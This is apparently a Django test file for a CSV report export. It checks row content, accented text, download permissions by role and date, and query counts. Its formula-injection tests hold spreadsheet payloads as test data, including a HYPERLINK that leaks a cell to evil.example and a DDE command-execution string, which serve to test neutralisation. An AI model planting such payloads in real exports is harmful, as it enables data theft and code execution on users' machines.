"""A structure's report as CSV: content, safe to open in a spreadsheet, and who may download it."""

import csv
import datetime
import io

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from facilitation.exports import neutralise
from missions.models import Frequency, Latitude

from .factories import (
    DailyTaskFactory,
    FacilitatorSupportFactory,
    MissionFactory,
    RoleFactory,
    UserFactory,
)

HEADER = [
    "Structure",
    "Role",
    "Warnings",
    "Share of time on missions drawing on lived experience (%)",
    "Mission",
    "Latitude",
    "How lived experience is put to work",
    "What the mission includes",
    "What the mission does not include",
    "Daily task",
    "How often",
    "Minutes per week",
]


@pytest.fixture
def client(client):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def _url(structure):
    return reverse("facilitation:report_csv", kwargs={"slug": structure.slug})


def _download(client, user, structure):
    client.force_login(user)
    response = client.get(_url(structure))
    assert response.status_code == 200
    return response


def _rows(response):
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for Excel
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


# --- content ---------------------------------------------------------------------------------


def test_one_row_per_task_with_the_role_indicators(client, world):
    world.mission.latitude = Latitude.AUTONOMOUS
    world.mission.save()
    task = world.task
    # 9 minutes every working day: 45 minutes a week.
    task.frequency, task.duration_minutes, task.action = Frequency.DAILY, 9, "Accueillir à 9 h"
    task.save()

    response = _download(client, world.manager, world.structure)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="peerwork-escale-{today}.csv"'
    )
    header, *rows = _rows(response)
    assert header == HEADER
    assert len(rows) == 4  # 2 missions × 2 tasks
    first = dict(zip(header, rows[0], strict=True))
    assert first["Structure"] == "CAARUD L'Escale"
    assert first["Role"] == world.role.title
    # 60 + 45 minutes of 225 on the mission that draws on lived experience: 47%.
    assert first["Warnings"] == (
        "Only 47% of the estimated time goes to missions that draw on lived experience. / "
        "No version of this sheet has been signed by both sides yet."
    )
    assert first["Share of time on missions drawing on lived experience (%)"] == "47"
    assert first["Mission"] == world.mission.title
    assert first["Latitude"] == "autonomous (on their own)"
    assert first["How lived experience is put to work"] == "Mon vécu aide à créer la confiance."
    assert first["What the mission includes"] == "Les maraudes du soir"
    assert first["What the mission does not include"] == "La distribution des repas"
    assert first["Daily task"] == "Accueillir à 9 h"
    assert first["How often"] == "Every day · 9\u00a0min → 45\u00a0min a week"
    assert first["Minutes per week"] == "45"
    assert [row[9] for row in rows] == [
        task.action for mission in world.role.missions.all() for task in mission.tasks.all()
    ]


def test_mission_without_tasks_and_role_without_missions_have_a_row(client, world):
    MissionFactory(role=world.role, title="Réunions d'équipe", lived_experience="")
    RoleFactory(structure=world.structure, title="Zz rôle vide", purpose="")

    _header, *rows = _rows(_download(client, world.manager, world.structure))

    by_mission = {row[4]: row for row in rows}
    assert by_mission["Réunions d'équipe"][9:] == ["", "", ""]
    assert "1 mission has no daily task" in by_mission["Réunions d'équipe"][2]
    empty = rows[-1]
    assert empty[:2] == ["CAARUD L'Escale", "Zz rôle vide"]
    assert "The raison d'être is not written" in empty[2]
    assert "This role has no mission yet." in empty[2]
    assert empty[3:] == [""] * 9  # no time estimated, no mission


def test_accents_survive(client, world):
    world.role.title = "Médiateur·rice de santé pair·e"
    world.role.save()
    body = _download(client, world.manager, world.structure).content
    assert "Médiateur·rice de santé pair·e".encode() in body


# --- formula injection -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil.example","clic")', '\'=HYPERLINK("http://evil.example","clic")'),
        ("+33 6 00 00 00 00", "'+33 6 00 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Rencontrer les personnes", "Rencontrer les personnes"),
        ("", ""),
        (None, ""),
        (45, 45),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_formula_in_a_mission_title_is_neutralised(client, world):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
    mission = MissionFactory(role=world.role, title=evil, includes="@SUM(1+1)", excludes="-1")
    DailyTaskFactory(mission=mission, action="+cmd|' /C calc'!A0")
    world.structure.name = "=1+1"
    world.structure.save()

    rows = _rows(_download(client, world.manager, world.structure))

    row = next(row for row in rows if row[4].endswith(evil))
    assert row[0] == "'=1+1"
    assert row[4] == "'" + evil
    assert row[7] == "'@SUM(1+1)"
    assert row[8] == "'-1"
    assert row[9] == "'+cmd|' /C calc'!A0"
    # No cell anywhere starts with a formula character.
    for cells in rows:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- who may download ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "actor, status",
    [
        ("manager", 200),
        ("facilitator", 200),
        ("peer_worker", 403),
        ("other_peer_worker", 403),
        ("other_manager", 404),
        ("other_facilitator", 404),  # support ended yesterday; supports another one today
        ("admin", 404),
    ],
)
def test_who_may_download(client, world, actor, status):
    client.force_login(getattr(world, actor))
    response = client.get(_url(world.structure))
    assert response.status_code == status
    if status != 200:
        assert world.role.title.encode() not in response.content


def test_facilitator_of_another_structure_gets_404(client, world):
    """The other facilitator supports the other structure today, not this one."""
    client.force_login(world.other_facilitator)
    assert client.get(_url(world.other_structure)).status_code == 200
    assert client.get(_url(world.structure)).status_code == 404


def test_anonymous_is_sent_to_log_in(client, world):
    response = client.get(_url(world.structure))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize(
    "start, end, status",
    [(-30, 0, 200), (0, None, 200), (-400, -1, 404), (1, None, 404)],
)
def test_support_dates_are_respected(client, world, start, end, status):
    facilitator = UserFactory()
    today, day = timezone.localdate(), datetime.timedelta(days=1)
    FacilitatorSupportFactory(
        facilitator=facilitator,
        structure=world.structure,
        start_date=today + start * day,
        end_date=None if end is None else today + end * day,
    )
    client.force_login(facilitator)
    assert client.get(_url(world.structure)).status_code == status


def test_structure_page_links_to_the_report_for_those_allowed(client, world):
    link = _url(world.structure)
    for actor, shown in [("manager", True), ("facilitator", True), ("peer_worker", False)]:
        client.force_login(getattr(world, actor))
        page = client.get(world.structure.get_absolute_url()).content.decode()
        assert (link in page) is shown, actor


# --- query count -----------------------------------------------------------------------------

# Session + user + savepoint pair, then the structure with access, its roles with indicators,
# their missions, their tasks.
REPORT_QUERIES = 8


@pytest.mark.parametrize("size", [1, 10])
def test_report_query_count_does_not_grow(client, world, django_assert_num_queries, size):
    for _ in range(size):
        role = RoleFactory(structure=world.structure, with_missions=3)
        MissionFactory(role=role)
    RoleFactory.create_batch(size, structure=world.structure)
    client.force_login(world.facilitator)
    with django_assert_num_queries(REPORT_QUERIES):
        response = client.get(_url(world.structure))
    assert response.status_code == 200
    assert len(_rows(response)) == 1 + 4 + size * (3 * 2 + 1) + size
